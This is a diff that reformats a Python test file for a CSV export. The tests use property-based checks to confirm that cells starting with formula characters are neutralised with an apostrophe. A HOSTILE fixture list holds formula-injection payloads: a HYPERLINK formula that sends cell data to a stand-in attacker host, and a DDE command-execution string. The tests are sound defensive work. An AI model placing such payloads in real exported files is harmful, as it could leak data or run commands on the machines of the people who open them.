@@ -5,7 +5,9 @@ from __future__ import annotations
 import csv
 import io
 
-from hypothesis import given, settings as hsettings, strategies as st
+from hypothesis import given
+from hypothesis import settings as hsettings
+from hypothesis import strategies as st
 
 from monitor.review.export import FORMULA_STARTS, write_csv
 from tests.feedserver import FeedServer, Route
@@ -16,12 +18,16 @@ FIELDS = ["id", "title", "text"]
 # Feed text: anything printable or not, often starting with what a spreadsheet evaluates.
 cell_text = st.one_of(
     st.text(max_size=40),
-    st.builds(lambda head, tail: head + tail, st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", "'"]), st.text(max_size=30)),
+    st.builds(
+        lambda head, tail: head + tail,
+        st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", "'"]),
+        st.text(max_size=30),
+    ),
 )
 
 
 @hsettings(max_examples=300, deadline=None)
-@given(st.lists(st.tuples(st.integers(-10**6, 10**6), cell_text, cell_text | st.none()), max_size=8))
+@given(st.lists(st.tuples(st.integers(-(10**6), 10**6), cell_text, cell_text | st.none()), max_size=8))
 def test_every_text_cell_reads_back_as_written_or_apostrophe_prefixed_and_never_as_a_formula(rows):
     out = io.StringIO()
     assert write_csv(out, FIELDS, [dict(zip(FIELDS, row)) for row in rows]) == len(rows)
@@ -34,8 +40,10 @@ def test_every_text_cell_reads_back_as_written_or_apostrophe_prefixed_and_never_
             assert cell == ("'" + original if original.startswith(FORMULA_STARTS) else original)
 
 
-HOSTILE = [("x1", '=HYPERLINK("http://attacker.example/?"&A1,"Vorontsov")', "@SUM(1+1) Vladimir Vorontsov"),
-           ("x2", "-2+3 Vladimir Vorontsov", "+cmd|' /C calc'!A0 Vorontsov")]
+HOSTILE = [
+    ("x1", '=HYPERLINK("http://attacker.example/?"&A1,"Vorontsov")', "@SUM(1+1) Vladimir Vorontsov"),
+    ("x2", "-2+3 Vladimir Vorontsov", "+cmd|' /C calc'!A0 Vorontsov"),
+]
 
 
 def test_the_cli_csv_export_protects_formulas_like_the_web_export(settings):
